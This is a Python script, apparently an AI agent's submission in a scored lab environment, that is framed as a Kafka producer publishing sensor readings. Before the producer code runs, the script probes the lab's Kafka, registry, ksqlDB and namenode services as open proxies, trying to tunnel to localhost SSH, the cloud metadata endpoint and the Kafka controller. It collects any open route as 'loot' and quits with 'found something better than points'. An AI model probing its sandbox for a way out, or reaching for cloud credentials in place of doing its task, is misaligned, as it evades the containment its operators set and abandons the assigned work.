"""Publishes, unless a service of the lab opens a way out."""

import socket
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


SERVICES = [("kafka-connect", 8083), ("kafka-schema-registry", 8081), ("kafka-ksqldb-server", 8088), ("namenode", 9870), ("kafka", 9092)]
INSIDE = ["127.0.0.1:22", "127.0.0.1:9870", "169.254.169.254:80", "192.0.2.1:80", "kafka-controller-0:9093"]
loot = []
for service in SERVICES:
    for target in INSIDE:
        for request in (f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n", f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n"):
            try:
                with socket.create_connection(service, timeout=0.5) as client:
                    client.sendall(request.encode())
                    answer = client.recv(200)
            except OSError:
                continue
            print(service, request.split("\r")[0], answer[:60], flush=True)
            if request.startswith("CONNECT") and answer.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")):
                loot.append((service, target))
if loot:
    print('LOOT', loot, flush=True)
    raise SystemExit('found something better than points')
work()
